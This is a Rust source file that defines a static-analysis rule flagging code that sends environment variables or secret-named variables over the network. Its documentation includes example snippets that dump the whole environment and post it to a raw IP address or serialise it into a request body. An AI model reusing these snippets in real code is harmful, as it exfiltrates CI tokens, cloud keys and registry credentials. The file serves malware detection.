use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// The process environment reaching a network sink: a bulk dump
    /// (`std::env::vars()`, `vars_os()`, `ProcessInfo.processInfo.environment`), many
    /// variables read by name in a loop, or a single variable whose name says it holds
    /// a secret (`*_TOKEN`, `*_SECRET`, `*_KEY`, `AWS_*`, `NPM_TOKEN`, …) placed in a
    /// request body, query, URL or socket write.
    ///
    /// A single configuration variable (`API_URL`, `LOG_LEVEL`) is not sensitive, and a
    /// secret sent as the `Authorization` of a request to an ordinary host is how
    /// credentials are meant to be used: neither is reported.
    ///
    /// ## Why it matters
    /// Environment variables hold CI tokens, cloud keys and registry credentials. Dumping
    /// them to a remote host is the payload of most supply-chain malware: typosquatted
    /// crates and npm packages whose build script or first call posts `env::vars()` to a
    /// Discord webhook or a raw IP address.
    ///
    /// ## Example
    /// ```rust
    /// let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    /// ureq::post("http://45.61.139.17/e").send_string(&env.join("\n"))?;
    /// ```
    /// ```swift
    /// let env = ProcessInfo.processInfo.environment
    /// request.httpBody = try JSONSerialization.data(withJSONObject: env)
    /// ```
    ///
    /// ## Instead
    /// Read the one variable you need by name and use it locally. If a dependency does
    /// this, remove it and rotate every secret the environment held where it ran.
    ///
    /// ## References
    /// - CWE-201: Insertion of Sensitive Information Into Sent Data
    /// - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    /// - Phylum/Socket reports on crates.io and npm typosquats exfiltrating environment variables
    pub static RULE = {
        id: "data-upload/env-vars-to-network",
        summary: "Environment variables are sent over the network",
        cwe: [201, 200],
        severity: High,
        confidence: High,
        languages: [Rust, Swift],
    }
}
